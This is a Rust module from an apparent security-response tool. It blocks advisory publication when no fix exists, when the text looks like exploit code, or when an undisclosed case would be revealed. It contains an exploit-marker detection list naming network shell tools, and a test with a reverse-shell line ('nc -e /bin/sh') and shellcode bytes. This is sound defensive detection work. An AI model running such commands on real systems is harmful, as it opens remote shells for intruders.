//! Publication gates: no advisory before a fix or a mitigation exists; no exploit code; nothing
//! about an undisclosed case in a public document. Each can be overridden only by a PSO with a
//! recorded reason.

use std::fmt;

use psirt_domain::{case::Phase, policy::StartEvent};
use serde::{Deserialize, Serialize};

use crate::{
    app::{App, AppError},
    storage::{advisories::AdvisoryRow, cases},
};

/// A gate that blocks publication.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Gate {
    /// A covered case has neither a released fix nor a documented mitigation.
    NoFix { case: String },
    /// The text looks like it contains exploit code.
    ExploitCode { field: &'static str },
    /// A public document would reveal a case whose disclosure was not approved.
    UndisclosedCase { case: String },
}

impl Gate {
    pub fn code(&self) -> &'static str {
        match self {
            Gate::NoFix { .. } => "no_fix",
            Gate::ExploitCode { .. } => "exploit_code",
            Gate::UndisclosedCase { .. } => "undisclosed_case",
        }
    }
}

impl fmt::Display for Gate {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Gate::NoFix { case } => write!(
                f,
                "no_fix: {case} has no released fix and the advisory gives no mitigation"
            ),
            Gate::ExploitCode { field } => write!(
                f,
                "exploit_code: the {field} looks like it contains exploit code"
            ),
            Gate::UndisclosedCase { case } => {
                write!(f, "undisclosed_case: {case} is not approved for disclosure")
            }
        }
    }
}

/// A PSO's recorded decision to publish despite a gate.
#[derive(Debug, Clone, Deserialize, Serialize, utoipa::ToSchema)]
#[serde(deny_unknown_fields)]
pub struct GateOverride {
    /// `no_fix`, `exploit_code` or `undisclosed_case`.
    pub gate: String,
    pub reason: String,
}

/// Markers of exploit code in prose: shell, script and shellcode idioms. Deliberately simple:
/// a false positive costs one recorded override, a miss could arm attackers.
const EXPLOIT_MARKERS: &[&str] = &[
    "#!/",
    "import socket",
    "import requests",
    "<script",
    "\\x90\\x90",
    "shellcode",
    "msfvenom",
    "```",
    "nc -e",
    "/bin/sh -i",
    "eval(",
    "exec(",
];

fn looks_like_exploit(text: &str) -> bool {
    let lower = text.to_lowercase();
    EXPLOIT_MARKERS.iter().any(|m| lower.contains(m)) || lower.matches("\\x").count() >= 8
}

/// Every gate the advisory breaks now.
pub async fn check(app: &App, advisory: &AdvisoryRow) -> Result<Vec<Gate>, AppError> {
    let mut gates = Vec::new();
    let links = crate::storage::advisories::cases(&app.db, &advisory.id).await?;
    let public = advisory.tlp == "WHITE";
    let mut covered = Vec::new();
    for (case_id, _) in &links {
        let Some(case) = cases::by_id(&app.db, case_id).await? else {
            continue;
        };
        covered.push(case.reference.clone());
        let fix = cases::anchors(&app.db, case_id)
            .await?
            .iter()
            .any(|(e, _)| e == StartEvent::FixAvailable.as_str());
        if advisory.kind == "advisory" && !fix && advisory.workarounds.is_none() {
            gates.push(Gate::NoFix {
                case: case.reference.clone(),
            });
        }
        let phase: Phase = case.phase.parse().unwrap_or_default();
        let approved = case.disclosure_approved_by_id.is_some()
            || phase.is_disclosed()
            || case.resolution.as_deref() == Some("fixed");
        if public && !approved {
            gates.push(Gate::UndisclosedCase {
                case: case.reference.clone(),
            });
        }
    }
    let fields: [(&'static str, Option<&str>); 5] = [
        ("title", Some(&advisory.title)),
        ("summary", Some(&advisory.summary)),
        ("business impact", advisory.business_impact.as_deref()),
        ("remediation", advisory.remediation.as_deref()),
        ("workarounds", advisory.workarounds.as_deref()),
    ];
    for (field, text) in fields {
        let Some(text) = text else { continue };
        if looks_like_exploit(text) {
            gates.push(Gate::ExploitCode { field });
        }
        if public {
            for mentioned in references_in(text) {
                if covered.contains(&mentioned) {
                    continue;
                }
                let all = crate::storage::reports::Viewer {
                    user_id: "",
                    sees_all: true,
                };
                if let Some(other) = cases::by_reference(&app.db, all, &mentioned).await? {
                    let phase: Phase = other.phase.parse().unwrap_or_default();
                    if !phase.is_disclosed() && other.resolution.as_deref() != Some("fixed") {
                        gates.push(Gate::UndisclosedCase { case: mentioned });
                    }
                }
            }
        }
    }
    Ok(gates)
}

/// Case references (`PSIRT-YYYY-NNNN`) mentioned in a text.
fn references_in(text: &str) -> Vec<String> {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
        .filter(|w| w.parse::<psirt_domain::report::Reference>().is_ok())
        .map(|w| w.to_uppercase())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spots_exploit_code_and_references() {
        assert!(looks_like_exploit(
            "Run: #!/bin/bash\nnc -e /bin/sh 10.0.0.1"
        ));
        assert!(looks_like_exploit(
            "payload \\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68"
        ));
        assert!(!looks_like_exploit(
            "Upgrade the BMS firmware to 3.2.0 through the OTA service."
        ));
        assert_eq!(
            references_in("see PSIRT-2026-0007, and (PSIRT-2026-0012)."),
            ["PSIRT-2026-0007", "PSIRT-2026-0012"]
        );
    }
}
